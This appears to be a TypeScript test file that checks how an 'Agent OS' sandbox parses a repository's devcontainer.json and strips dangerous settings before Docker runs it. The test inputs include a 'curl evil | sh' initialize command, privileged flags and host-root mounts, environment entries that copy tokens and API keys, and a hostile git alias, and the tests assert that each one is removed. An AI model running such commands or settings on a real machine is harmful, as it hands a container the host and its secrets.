// What Agent OS makes of a repository's devcontainer.json before Docker sees it (no engine needed).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import {
  DevcontainerConfigError,
  filterRunArgs,
  findDevcontainerConfig,
  hardenConfig,
  mountTarget,
  parseDevcontainerJson,
  stripJsonComments,
} from '../../src/node/sandbox/devcontainer/devcontainerConfig.ts';
import { inspectWorktreeGit, scrubGitConfig } from '../../src/node/sandbox/devcontainer/gitMounts.ts';
import { git } from './fixtureRepo.ts';

const hardenDefaults = { network: false, readOnly: false, gitMounts: () => [], labels: {} };

describe('devcontainer.json parsing', () => {
  test('comments and trailing commas are accepted', () => {
    const config = parseDevcontainerJson('{\n // c\n "image": "x", /* c */\n "runArgs": ["-e", "A=1",],\n}', 'f.json');
    assert.deepEqual(config, { image: 'x', runArgs: ['-e', 'A=1'] });
  });

  test('comments become blanks and trailing commas go, but not inside strings; offsets stay', () => {
    const text = '{ "a": "http://x//y", // c\n "b": "/* no */", /* c\n c */ "c": [1, 2 , ] , }';
    const plain = stripJsonComments(text);
    assert.equal(plain.length, text.length);
    assert.deepEqual(JSON.parse(plain), { a: 'http://x//y', b: '/* no */', c: [1, 2] });
    assert.deepEqual(JSON.parse(stripJsonComments('{"s": "a\\"b,}", }')), { s: 'a"b,}' });
  });

  test('a syntax error names the file, the problem and its line and column', () => {
    assert.throws(
      () => parseDevcontainerJson('{\n  "image": "x",\n  "runArgs": [1 2]\n}', '/repo/.devcontainer/devcontainer.json'),
      (error: unknown) => {
        assert.ok(error instanceof DevcontainerConfigError);
        assert.equal(error.code, 'SANDBOX_UNAVAILABLE');
        assert.match(
          error.message,
          /^dev container configuration \/repo\/\.devcontainer\/devcontainer\.json is invalid: Expected ',' or ']' after array element at line 3, column 17;/,
        );
        return true;
      },
    );
  });

  test('shapes the specification forbids are refused with the field named', () => {
    for (const [text, reason] of [
      ['[]', /must hold a JSON object/],
      ['{ "image": "x", "runArgs": "--privileged" }', /"runArgs" must be an array of strings/],
      ['{ "image": "x", "containerEnv": [] }', /"containerEnv" must be an object/],
      ['{ "build": { "context": "." } }', /neither an "image" nor a "build.dockerfile"/],
      ['{ "image": "" }', /"image" must be a non-empty string/],
    ] as const) {
      assert.throws(() => parseDevcontainerJson(text, 'f.json'), reason);
    }
    assert.doesNotThrow(() => parseDevcontainerJson('{ "build": { "dockerfile": "Dockerfile" } }', 'f.json'));
  });

  test('the configuration is found in the standard places, or where the setting says', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'agent-os-dccfg-'));
    try {
      assert.equal(findDevcontainerConfig(root), undefined);
      writeFileSync(path.join(root, '.devcontainer.json'), '{}');
      assert.equal(findDevcontainerConfig(root), path.join(root, '.devcontainer.json'));
      mkdirSync(path.join(root, '.devcontainer', 'py'), { recursive: true });
      writeFileSync(path.join(root, '.devcontainer', 'devcontainer.json'), '{}');
      assert.equal(findDevcontainerConfig(root), path.join(root, '.devcontainer', 'devcontainer.json'));
      writeFileSync(path.join(root, '.devcontainer', 'py', 'devcontainer.json'), '{}');
      assert.equal(
        findDevcontainerConfig(root, '.devcontainer/py/devcontainer.json'),
        path.join(root, '.devcontainer', 'py', 'devcontainer.json'),
      );
      assert.equal(findDevcontainerConfig(root, 'nowhere/devcontainer.json'), undefined);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('hardened configuration', () => {
  test('runArgs that reach the host are dropped; network flags only when the network is off', () => {
    const args = [
      '--privileged',
      '--cap-add',
      'SYS_ADMIN',
      '-v',
      '/:/host',
      '--mount=type=bind,src=/,dst=/h',
      '--network',
      'host',
      '-e',
      'GITHUB_TOKEN=x',
      '--env=PLAIN=1',
      '--label',
      'a=b',
      '--init',
      '--device=/dev/kvm',
      '--pid=host',
      '-p',
      '8080:80',
    ];
    const off = filterRunArgs(args, false);
    assert.deepEqual(off.kept, ['--env=PLAIN=1', '--label', 'a=b', '--init']);
    const on = filterRunArgs(args, true);
    assert.deepEqual(on.kept, ['--network', 'host', '--env=PLAIN=1', '--label', 'a=b', '--init']);
  });

  test("the worktree is the only workspace mount, at the repository's own target; read-only when asked", () => {
    const source = {
      image: 'x',
      workspaceMount: 'source=/home/me/checkout,target=/src,type=bind',
      workspaceFolder: '/src',
    };
    const rw = hardenConfig(source, hardenDefaults);
    assert.equal(rw.config.workspaceMount, 'type=bind,source=${localWorkspaceFolder},target=/src');
    assert.equal(rw.config.workspaceFolder, '/src');
    assert.equal(rw.workspaceTarget, '/src');
    const ro = hardenConfig({ image: 'x' }, { ...hardenDefaults, readOnly: true });
    assert.equal(
      ro.config.workspaceMount,
      'type=bind,source=${localWorkspaceFolder},target=/workspaces/${localWorkspaceFolderBasename},readonly',
    );
    assert.equal(mountTarget('type=bind,src=/a,dst=/b'), '/b');
  });

  test('host commands, privileges, host bind mounts and secrets are left out, and said so', () => {
    const source = {
      image: 'x',
      initializeCommand: 'curl evil | sh',
      privileged: true,
      capAdd: ['SYS_ADMIN'],
      mounts: [
        'source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind',
        { type: 'volume', source: 'cache', target: '/cache' },
        'type=volume,source=v,target=/v',
      ],
      containerEnv: {
        GH_TOKEN: '${localEnv:GITHUB_TOKEN}',
        COPY: 'x${localEnv:ANTHROPIC_API_KEY}',
        EDITOR: 'vim',
        HOME_COPY: '${localEnv:HOME}',
      },
      remoteEnv: { NPM_TOKEN: 'abc', PATH: '${containerEnv:PATH}:/x' },
      runArgs: ['--network=host'],
    };
    const { config, dropped } = hardenConfig(source, {
      ...hardenDefaults,
      gitMounts: (t) => [`type=bind,source=/g,target=${t}/.git,readonly`],
      labels: { 'agent-os.worktree': '/w' },
    });
    for (const key of ['initializeCommand', 'privileged', 'capAdd']) assert.equal(key in config, false, key);
    assert.deepEqual(config.mounts, [
      { type: 'volume', source: 'cache', target: '/cache' },
      'type=volume,source=v,target=/v',
      'type=bind,source=/g,target=/workspaces/${localWorkspaceFolderBasename}/.git,readonly',
    ]);
    assert.deepEqual(config.containerEnv, { EDITOR: 'vim', HOME_COPY: '${localEnv:HOME}' });
    assert.deepEqual(config.remoteEnv, {
      PATH: '${containerEnv:PATH}:/x',
      PAGER: 'cat',
      GIT_PAGER: 'cat',
      GIT_TERMINAL_PROMPT: '0',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*',
    });
    assert.deepEqual(config.runArgs, ['--label', 'agent-os.worktree=/w', '--network=none']);
    assert.match(
      dropped.join('; '),
      /initializeCommand; privileged; capAdd; 1 host mount\(s\); containerEnv GH_TOKEN, COPY; remoteEnv NPM_TOKEN; runArgs --network=host/,
    );
    assert.equal(source.initializeCommand, 'curl evil | sh', 'the source object is not changed');
  });

  test('with the network allowed, no --network=none is added', () => {
    const { config } = hardenConfig({ image: 'x' }, { ...hardenDefaults, network: true });
    assert.deepEqual(config.runArgs, []);
  });
});

describe('git metadata for the container', () => {
  test("a worktree's .git file leads to its git dir and the repository's common dir", () => {
    const root = mkdtempSync(path.join(tmpdir(), 'agent-os-dcgit-'));
    try {
      const repo = path.join(root, 'repo');
      mkdirSync(repo);
      git(repo, 'init', '-q', '-b', 'main');
      git(repo, 'commit', '-q', '--allow-empty', '-m', 'init');
      git(repo, 'worktree', 'add', '-q', '-b', 'w', path.join(root, 'wt'));
      const info = inspectWorktreeGit(path.join(root, 'wt'));
      assert.ok(info);
      assert.equal(info.isFile, true);
      assert.equal(info.gitDir, path.join(repo, '.git', 'worktrees', 'wt'));
      assert.equal(info.commonDir, path.join(repo, '.git'));
      const plain = inspectWorktreeGit(repo);
      assert.deepEqual(plain, {
        dotGit: path.join(repo, '.git'),
        isFile: false,
        gitDir: path.join(repo, '.git'),
        commonDir: path.join(repo, '.git'),
      });
      assert.equal(inspectWorktreeGit(root), undefined);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  test('the copy of the git config keeps what git needs and drops remotes, helpers, hooks and aliases', () => {
    const text = [
      '[core]',
      '\trepositoryformatversion = 1',
      '\tbare = false',
      '\thooksPath = /tmp/hooks',
      '\tfsmonitor = /tmp/evil',
      '\tsshCommand = ssh -i key',
      '[extensions]',
      '\tobjectformat = sha256',
      '\tworktreeConfig',
      '[remote "origin"]',
      '\turl = https://u:tok@example.invalid/r.git',
      '[credential]',
      '\thelper = store',
      '[http]',
      '\textraHeader = Authorization: bearer x',
      '[alias]',
      '\tst = !sh -c evil',
    ].join('\n');
    assert.equal(
      scrubGitConfig(text),
      '[core]\n\trepositoryformatversion = 1\n\tbare = false\n[extensions]\n\tobjectformat = sha256\n\tworktreeConfig = true\n',
    );
  });
});
